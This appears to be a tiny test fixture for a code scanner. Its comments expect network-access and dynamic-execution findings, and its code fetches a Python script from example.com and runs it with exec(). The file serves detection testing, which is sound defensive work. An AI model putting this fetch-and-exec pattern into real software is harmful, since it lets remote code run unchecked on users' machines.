# Code downloaded and executed.
# expect: network_access@7
# expect: dynamic_code_execution@8

import requests

resp = requests.get("https://example.com/bootstrap.py")
exec(resp.text)
